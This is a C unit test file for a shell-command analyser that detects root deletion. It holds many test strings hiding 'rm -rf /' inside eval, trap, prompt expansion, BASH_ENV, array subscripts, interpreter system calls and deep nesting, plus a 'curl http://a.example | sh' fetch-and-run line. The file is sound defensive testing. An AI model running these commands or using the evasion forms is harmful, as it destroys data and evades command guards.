/*
 * Every way in which text comes to run, times every text: what is harmful is found on all of them,
 * and the same text is harmless where nothing runs it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>

#include <cmocka.h>

#include "base/words.h"
#include "effects/run.h"
#include "shell/programs.h"

static const struct str roots[] = { { "/home/user/project", 18 } };
static const struct effects_world world = { .cwd = { "/home/user/project", 18 },
					    .home = { "/home/user", 10 },
					    .roots = roots,
					    .nroots = 1 };

/* The text with each "~" replaced. */
static struct str filled(struct arena *a, const char *format, struct str with)
{
	AUTO(buf_done) struct buf out = { 0 };

	for (const char *p = format; *p; p++)
		if (*p == '~')
			buf_adds(&out, with);
		else
			buf_addc(&out, *p);
	return arena_str(a, buf_str(&out));
}

static bool finds_root(struct arena *a, struct str command, bool certain)
{
	struct effects e = { .arena = a, .world = &world };
	bool found = false;

	effects_of_shell(&e, command);
	for (size_t i = 0; i < e.n; i++)
		found |= e.p[i].kind == EFFECT_DELETE && (e.p[i].places & PLACE_ROOT) &&
			 !(certain && e.p[i].maybe);
	return found;
}

static bool deletes_root(struct arena *a, struct str command)
{
	return finds_root(a, command, true);
}

static void check(struct arena *a, const char *format, struct str text, bool runs, size_t *failed)
{
	struct str command = filled(a, format, text);

	if (deletes_root(a, command) == runs)
		return;
	++*failed;
	print_message("# %s: %.*s\n", runs ? "not found" : "found, but nothing runs it",
		      STR_ARG(command));
}

static void check_all(const char *const *formats, size_t nformats, const char *const *texts,
		      size_t ntexts, bool runs)
{
	size_t failed = 0;

	for (size_t i = 0; i < nformats; i++)
		for (size_t k = 0; k < ntexts; k++) {
			AUTO(arena_done) struct arena a = { 0 };

			check(&a, formats[i], str_from(texts[k]), runs, &failed);
		}
	assert_int_equal(failed, 0);
}

/* Where nothing runs what is between single quotes. */
static const char *const quoting[] = {
	"echo '~'",          "x='~'; echo \"$x\"", "printf '%s' '~'", "[ \"$y\" = '~' ]",
	"git commit -m '~'", "grep -F '~' x.txt",  "cat <<'E'\n~\nE", "cat > x.txt <<'E'\n~\nE",
	"f() { eval '~'; }", "bash -n <<< '~'",    "bash -nc '~'",    "logger '~' < /dev/null",
};

/* ---- the name of an element is expanded where a builtin or arithmetic takes it ---- */

static const char *const elements[] = {
	"a[$(rm -rf /)]",          "a[`rm -rf /`]",        "a[b[$(rm -rf /)]]",
	"a[1 + $(rm -rf /)]",      "a[${x:-$(rm -rf /)}]", "a[$(cd /; rm -rf *)]",
	"a[$(eval \"rm -rf /\")]",
};

static void elements_are_expanded(void **state)
{
	static const char *const takers[] = {
		"[[ -v '~' ]]",
		"test -v '~'",
		"[ -v '~' ]",
		"[[ '~' -eq 0 ]]",
		"[[ 1 -lt '~' ]]",
		"let '~=1'",
		"let 'x = ~'",
		"declare '~=1'",
		"typeset '~=1'",
		"f() { local '~=1'; }; f",
		"export '~=1'",
		"readonly '~'",
		"printf -v '~' x",
		"read '~' <<< 1",
		"read -r x '~' <<< '1 2'",
		"mapfile '~' < /dev/null",
		"unset '~'",
		"unset -v '~'",
		"wait -n -p '~'",
		"declare -n r='~'; echo $r",
		"declare -i x='~'",
		"x='~'; echo $((x))",
		"x='~'; echo $((1 + x))",
		"x='~'; y=x; echo $((y))",
		"x='~'; echo $((b[x]))",
		"x='~'; (( x ))",
		"x='~'; [[ x -eq 1 ]]",
		"x='~'; [[ $x -eq 1 ]]",
		"x='~'; let x",
		"x='~'; echo ${!x}",
		"x='~'; echo ${b[x]}",
		"x='~'; b[x]=1",
		"x='~'; echo ${y:x}",
		"x='~'; echo ${y:0:x}",
		"x='~'; for ((i = x; i < 1;)); do break; done",
		"x='~'; for ((;;)); do break; done; (( i += x ))",
		"b=('~'); echo $((b[0]))",
		"for x in '~'; do echo $((x)); done",
		"read -r x <<< '~'; echo $((x))",
	};

	(void)state;
	check_all(takers, ARRAY_LEN(takers), elements, ARRAY_LEN(elements), true);
	check_all(quoting, ARRAY_LEN(quoting), elements, ARRAY_LEN(elements), false);
}

/* ---- commands ---- */

static const char *const commands[] = {
	"rm -rf /",           "cd / && rm -rf *", "f() { rm -rf /; }; f",
	"x=/; rm -rf \"$x\"", "$(echo rm) -rf /",
};

static void texts_are_run(void **state)
{
	static const char *const ways[] = {
		/* prompts, startup, what bash looks for by itself */
		"x='$(~)'; echo \"${x@P}\"",
		"PS1='$(~)' bash -i <<< :",
		"PS4='$(~)'; set -x; true",
		"PS4='`~`' bash -xc :",
		"PROMPT_COMMAND='~'",
		"BASH_ENV=<(echo '~') bash -c :",
		"echo '~' > e.sh; BASH_ENV=./e.sh bash -c :",
		"echo '~' > e; export BASH_ENV=e; bash x.sh",
		"env 'BASH_FUNC_ls%%=() { :; }' 'BASH_FUNC_pwd%%=() { ~\n }' bash -c pwd",
		/* builtins that take a command */
		"eval '~'",
		"trap '~' EXIT",
		"trap '~' DEBUG; true",
		"trap -- '~' INT TERM",
		"mapfile -C '~ #' -c 1 <<< x",
		"readarray -t -c1 -C '~\n#' x <<< y",
		"compgen -C '~'",
		"complete -C '~' x",
		"bind -x '\"a\": ~'",
		"history -s '~'; fc -s",
		"alias x='~'; x",
		"BASH_ALIASES[x]='~'; x",
		"coproc bash -c '~'",
		"builtin eval '~'",
		"command eval '~'",
		/* descriptors and files */
		". /dev/stdin <<< '~'",
		"source <(echo '~')",
		". /dev/fd/3 3<<< '~'",
		"bash /dev/fd/3 3<<< '~'",
		"bash /proc/self/fd/4 4<<< '~'",
		"exec 3<<< '~'; bash <&3",
		"exec 3<<'E'\n~\nE\nsh 0<&3",
		"exec {x}<<< '~'; sh <&$x",
		"exec <<< '~'; sh",
		"exec 3<<< '~' 4<&3; sh <&4",
		"{ sh <&3; } 3<<< '~'",
		"exec 3> x.sh; echo '~' >&3; sh x.sh",
		"echo '~' > x.sh; sh < x.sh",
		"echo '~' | { cat; } | bash -s",
		"t=$(mktemp); echo '~' > \"$t\"; sh \"$t\"",
		/* values that are run */
		"read -r x <<< '~'; eval \"$x\"",
		"read -r -u 3 x 3<<< '~'; eval \"$x\"",
		"mapfile -t x <<< '~'; eval \"${x[0]}\"",
		"x=(a '~'); eval \"${x[1]}\"",
		"x=(a '~'); i=1; eval \"${x[$i]}\"",
		"declare -A x=([k]='~'); eval \"${x[k]}\"",
		"declare -A x; x[k]='~'; k=k; eval \"${x[$k]}\"",
		"y='~'; declare -n x=y; eval \"$x\"",
		"y='~'; x=y; eval \"${!x}\"",
		"printf -v x '%s' '~'; eval \"$x\"",
		"x='~'; eval \"${UNSET:-$x}\"",
		"bash -c 'eval \"$0\"' '~'",
		"set -- '~'; eval \"$1\"",
		"f() { eval \"$1\"; }; f '~'",
		"f() { f() { ~; }; f; }; f",
		"xargs -d '\\n' sh -c <<< '~'",
		"xargs -0 -I{} sh -c {} <<< '~'",
	};
	static const char *const harmless[] = {
		"trap 'echo done' EXIT; echo '~'",
		"history -s '~'",
		"declare -A x=([k]='~' [l]=true); eval \"${x[l]}\"",
		"x='~'; echo \"${x@Q}\"",
		"exec 3<<< '~'; cat <&3",
		"read -r x <<< '~'; echo \"$x\"",
	};

	(void)state;
	check_all(ways, ARRAY_LEN(ways), commands, ARRAY_LEN(commands), true);
	check_all(quoting, ARRAY_LEN(quoting), commands, ARRAY_LEN(commands), false);
	check_all(harmless, ARRAY_LEN(harmless), commands, ARRAY_LEN(commands), false);
}

/* ---- code whose command comes from outside ---- */

enum { SINKS = 3, SOURCES = 4 };

/* A sink has a "~" for the source. */
static const struct {
	const char *start, *sinks[SINKS], *prints, *args[SOURCES], *env, *input[SOURCES];
} languages[] = {
	{ "python3 -c",
	  { "import os, sys\nos.system(~)",
	    "import subprocess, sys, os\nsubprocess.run(~, shell=True)",
	    "import os, sys\ndef go(c):\n    os.popen(c)\ngo(~)" },
	  "import os, sys\nprint(~)",
	  { "sys.argv[1]", "sys.argv[-1]", "\" \".join(sys.argv[1:])" },
	  "os.environ[\"X\"]",
	  { "sys.stdin.read()", "input()", "sys.stdin.readline()", "open(0).read()" } },
	{ "node -e",
	  { "require(\"child_process\").execSync(~)",
	    "const { exec } = require(\"child_process\"); exec(~)",
	    "const c = require(\"child_process\"); c.spawn(~, { shell: true })" },
	  "console.log(~)",
	  { "process.argv[1]", "process.argv.slice(1).join(\" \")" },
	  "process.env.X",
	  { "require(\"fs\").readFileSync(0, \"utf8\")",
	    "require(\"fs\").readFileSync(\"/dev/stdin\").toString()" } },
	{ "perl -e",
	  { "system(~)", "exec ~", "my $c = ~; `$c`" },
	  "print(~)",
	  { "$ARGV[0]", "shift(@ARGV)", "join(\" \", @ARGV)" },
	  "$ENV{X}",
	  { "<STDIN>", "<>" } },
	{ "perl -ne", { "system($_)", "exec $_", "`$_`" }, "print", { 0 }, NULL, { "" } },
	{ "ruby -e",
	  { "system(~)", "exec ~", "c = ~\n`#{c}`" },
	  "puts(~)",
	  { "ARGV[0]", "ARGV.first", "ARGV.join(\" \")" },
	  "ENV[\"X\"]",
	  { "$stdin.read", "gets", "STDIN.read" } },
	{ "php -r",
	  { "system(~);", "$c = ~; shell_exec($c);", "passthru(~);" },
	  "echo ~;",
	  { "$argv[1]", "implode(\" \", array_slice($argv, 1))" },
	  "getenv(\"X\")",
	  { "fgets(STDIN)", "file_get_contents(\"php://stdin\")", "stream_get_contents(STDIN)" } },
	{ "lua -e",
	  { "os.execute(~)", "local c = ~; os.execute(c)", "io.popen(~)" },
	  "print(~)",
	  { "arg[1]" },
	  "os.getenv(\"X\")",
	  { "io.read()", "io.read(\"*a\")" } },
	{ "awk",
	  { "BEGIN { system(~) }", "BEGIN { c = ~; system(c) }", "BEGIN { ~ | getline x }" },
	  "BEGIN { print ~ }",
	  { "ARGV[1]" },
	  "ENVIRON[\"X\"]",
	  { 0 } },
	{ "awk",
	  { "{ system(~) }", "{ c = ~; system(c) }", "NR == 1 { system(~) }" },
	  "{ print ~ }",
	  { 0 },
	  NULL,
	  { "$0" } },
};

static void check_code(const char *format, const char *start, const char *sink, const char *source,
		       bool runs, size_t *failed)
{
	for (size_t i = 0; i < ARRAY_LEN(commands); i++) {
		AUTO(arena_done) struct arena a = { 0 };
		AUTO(buf_done) struct buf all = { 0 };
		struct str code = filled(&a, sink, str_from(source));

		/* "&" is how it is started, with its code. */
		for (const char *p = format; *p; p++)
			if (*p == '&')
				buf_addf(&all, "%s '%.*s'", start, STR_ARG(code));
			else
				buf_addc(&all, *p);
		buf_addc(&all, '\0');
		check(&a, all.p, str_from(commands[i]), runs, failed);
	}
}

static void code_gets_what_it_is_given(void **state)
{
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(languages); i++)
		for (size_t s = 0; s <= SINKS; s++) {
			const char *start = languages[i].start;
			const char *sink = s < SINKS ? languages[i].sinks[s] : languages[i].prints;
			bool runs = s < SINKS;

			for (size_t k = 0; k < SOURCES && languages[i].args[k]; k++)
				check_code("& '~'", start, sink, languages[i].args[k], runs,
					   &failed);
			if (languages[i].env) {
				check_code("X='~' &", start, sink, languages[i].env, runs, &failed);
				check_code("export X='~'; true; &", start, sink, languages[i].env,
					   runs, &failed);
			}
			for (size_t k = 0; k < SOURCES && languages[i].input[k]; k++) {
				check_code("& <<< '~'", start, sink, languages[i].input[k], runs,
					   &failed);
				check_code("cat <<'E' | &\n~\nE\n", start, sink,
					   languages[i].input[k], runs, &failed);
			}
		}
	assert_int_equal(failed, 0);
}

/* What is too long to keep is not known, instead of being half of it. */
static void long_input_is_unknown(void **state)
{
	(void)state;
	for (size_t n = 100; n <= 100000; n *= 1000) {
		AUTO(arena_done) struct arena a = { 0 };
		AUTO(buf_done) struct buf text = BUF_INIT(.max = 1 << 20);
		struct effects e = { .arena = &a, .world = &world };

		buf_addz(&text, "python3 -c 'import os, sys; os.system(sys.stdin.read())' <<'E'\n");
		for (size_t i = 0; i < n; i++)
			buf_addc(&text, ':');
		buf_addz(&text, "\nrm -rf /\nE\n");
		effects_of_shell(&e, buf_str(&text));
		assert_int_equal(deletes_root(&a, buf_str(&text)), n == 100);
		assert_int_equal(e.opaque, n > 100);
	}
}

/* Brackets of each language around what deletes, which `;` means; the text runs it all. */
static const struct {
	const char *start, *core, *brackets[10][2];
} nesting[] = {
	{ "python3 -c 'import os; ;'",
	  "os.system(\"rm -rf /\")",
	  { { "f(", ")" },
	    { "(", ")" },
	    { "[", "]" },
	    { "{1:", "}" },
	    { "x[", "]" },
	    { "f\"{", "}\"" },
	    { "not (", ")" },
	    { "f(a=", ")" } } },
	{ "node -e ';'",
	  "require(\"child_process\").execSync(\"rm -rf /\")",
	  { { "f(", ")" },
	    { "(", ")" },
	    { "[", "]" },
	    { "({a:", "})" },
	    { "(()=>", ")()" },
	    { "`${", "}`" },
	    { "if(1){", "}" },
	    { "new X(", ")" } } },
	{ "perl -e ';'",
	  "system(\"rm -rf /\")",
	  { { "f(", ")" }, { "[", "]" }, { "{a=>", "}" }, { "do {", "}" }, { "if(1){", "}" } } },
	{ "ruby -e ';'",
	  "system(\"rm -rf /\")",
	  { { "f(", ")" },
	    { "[", "]" },
	    { "\"#{", "}\"" },
	    { "begin\n", "\nend" },
	    { "lambda { ", " }.call" } } },
	{ "php -r ';'",
	  "system(\"rm -rf /\")",
	  { { "f(", ")" }, { "[", "]" }, { "if(1){", "}" } } },
	{ "lua -e 'x=;'", "os.execute(\"rm -rf /\")", { { "f(", ")" }, { "{", "}" } } },
	{ "pwsh -c ';'",
	  "Remove-Item -Recurse -Force /",
	  { { "(", ")" },
	    { "$(", ")" },
	    { "& {", "}" },
	    { "if(1){", "}" },
	    { "@(", ")" },
	    { "Invoke-Command {", "}" } } },
	{ ";",
	  "rm -rf /",
	  { { "( ", " )" },
	    { "{ ", "\n}" },
	    { "$(", ")" },
	    { "eval ", "" },
	    { "cat <(", ")" },
	    { "if ", "\nthen :\nfi" },
	    { "echo \"$(", ")\"" },
	    { "sudo ", "" } } },
};

static struct str nest(struct arena *a, size_t which, size_t bracket, int depth)
{
	AUTO(buf_done) struct buf out = { 0 };

	for (const char *p = nesting[which].start; *p; p++) {
		if (*p != ';' || (p[1] && p[1] != '\'')) {
			buf_addc(&out, *p);
			continue;
		}
		for (int i = 0; i < depth; i++)
			buf_addz(&out, nesting[which].brackets[bracket][0]);
		buf_addz(&out, nesting[which].core);
		for (int i = 0; i < depth; i++)
			buf_addz(&out, nesting[which].brackets[bracket][1]);
	}
	return arena_str(a, buf_str(&out));
}

/* However deep: it is seen, or it is said that not all was looked at. */
static void nothing_hides_in_brackets(void **state)
{
	static const int depths[] = { 1, 10, 30, 40, 47, 48, 49, 60, 130, 200, 600 };
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(nesting); i++)
		for (size_t k = 0; k < 10 && nesting[i].brackets[k][0]; k++)
			for (size_t d = 0; d < ARRAY_LEN(depths); d++) {
				AUTO(arena_done) struct arena a = { 0 };
				struct effects e = { .arena = &a, .world = &world };
				struct str text = nest(&a, i, k, depths[d]);
				bool seen = false;

				effects_of_shell(&e, text);
				for (size_t n = 0; n < e.n; n++)
					seen |= e.p[n].kind == EFFECT_UNJUDGED ||
						(e.p[n].kind == EFFECT_DELETE &&
						 e.p[n].places & PLACE_ROOT);
				failed += !seen;
				if (!seen)
					print_message("# not seen: %d times %s in %s\n", depths[d],
						      nesting[i].brackets[k][0], nesting[i].start);
			}
	assert_int_equal(failed, 0);
}

/* What the reader of shell text knows to start others, guards at least presume to, in one form. */
static void starters_are_followed(void **state)
{
	static const char *const forms[] = {
		"@ ~",
		"@ 1 ~",
		"@ x ~",
		"@ exec ~",
		"@ exec x ~",
		"@ exec x -- ~",
		"@ run ~",
		"@ run x ~",
		"@ -c '~'",
		"@ x -c '~'",
		"@ '~'",
		"@ h '~'",
		"@ '~' EXIT",
		"@ -- ~",
		"echo '~' | @",
		"@ . -exec ~ ';'",
		"@ -e '~'",
		"@ new '~'",
		"@ - EXEC:'~'",
		"@ -ex 'shell ~'",
		"@ --args ~",
		"@ shell -- ~",
		"@ start ~",
		"@ enter x -- ~",
		"@ -- -c '~'",
		"@ ssh x '~'",
		"echo '~' > x; @ x",
	};
	static const char *const containers[] = { "docker", "podman" };
	const struct sh_program *p;
	struct str name;

	(void)state;
	for (size_t i = 0; (p = sh_program_at(i)); i++)
		for (struct str rest = str_from(p->names); str_split(&rest, ' ', &name);) {
			bool found = p->starts == SH_STARTS_CODE || WORD_IN(name, containers);

			for (size_t k = 0; k < ARRAY_LEN(forms) && !found; k++) {
				AUTO(arena_done) struct arena a = { 0 };
				AUTO(buf_done) struct buf form = { 0 };

				for (const char *c = forms[k]; *c; c++)
					if (*c == '@')
						buf_adds(&form, name);
					else
						buf_addc(&form, *c);
				found = finds_root(&a, filled(&a, buf_z(&form), STR("rm -rf /")),
						   false);
			}
			if (!found)
				fail_msg("%.*s starts a program that is not judged", STR_ARG(name));
		}
}

static void is_known(const char *names, special_fn *run)
{
	struct str name;

	(void)run;
	for (struct str rest = str_from(names); str_split(&rest, ' ', &name);)
		if (!sh_program_find(name))
			fail_msg("%.*s starts a program and is not known", STR_ARG(name));
}

/* And the other way round: what guards follow, the reader knows to start others. */
static void starters_are_known(void **state)
{
	(void)state;
	wrappers_each(is_known);
	interpreters_each(is_known);
	is_known(SHELLS, NULL);
}

/* All of them run text, in a pipe as well, and as root they are a shell of root. */
static void shells_are_one_list(void **state)
{
	struct str rest = STR(SHELLS), name;

	(void)state;
	while (str_split(&rest, ' ', &name)) {
		AUTO(arena_done) struct arena a = { 0 };
		struct effects e = { .arena = &a, .world = &world };
		bool root = false, fetched = false;

		effects_of_shell(&e, arena_printf(&a, "sudo %.*s; curl http://a.example | %.*s",
						  STR_ARG(name), STR_ARG(name)));
		for (size_t i = 0; i < e.n; i++) {
			root |= e.p[i].kind == EFFECT_PRIVILEGES && e.p[i].forced;
			fetched |= e.p[i].kind == EFFECT_RUN_FETCHED;
		}
		if (!root || !fetched ||
		    !deletes_root(&a, arena_printf(&a, "%.*s -c 'rm -rf /'", STR_ARG(name))))
			fail_msg("%.*s", STR_ARG(name));
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(elements_are_expanded),
		cmocka_unit_test(texts_are_run),
		cmocka_unit_test(code_gets_what_it_is_given),
		cmocka_unit_test(long_input_is_unknown),
		cmocka_unit_test(nothing_hides_in_brackets),
		cmocka_unit_test(starters_are_followed),
		cmocka_unit_test(starters_are_known),
		cmocka_unit_test(shells_are_one_list),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
